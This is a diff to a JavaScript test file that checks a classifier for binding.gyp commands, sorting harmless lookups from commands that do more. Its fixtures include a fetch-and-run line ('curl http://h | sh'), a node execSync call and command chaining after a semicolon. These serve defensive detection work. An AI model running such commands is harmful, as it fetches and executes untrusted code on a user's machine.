@@ -21,6 +21,7 @@ describe('the commands of a binding.gyp', () => {
     `node -p "process.env['npm_config_x']"`,
     'pkg-config libusb-1.0 --cflags-only-I | sed s/-I//g',
     'uname -s',
+    'echo $CC',
     'ls -1 src/*.cc',
   ];
   for (const command of lookUps) it(`only look something up: ${command}`, () => assert.ok(isLookUp(command)));
@@ -31,6 +32,8 @@ describe('the commands of a binding.gyp', () => {
     `node -e "require('child_process').execSync('x')"`,
     'curl http://h | sh',
     'echo $(node x.js)',
+    'echo $CC(x)',
+    'echo $CC; node x.js',
     'python setup.py',
   ];
   for (const command of others) it(`do more: ${command}`, () => assert.ok(!isLookUp(command)));
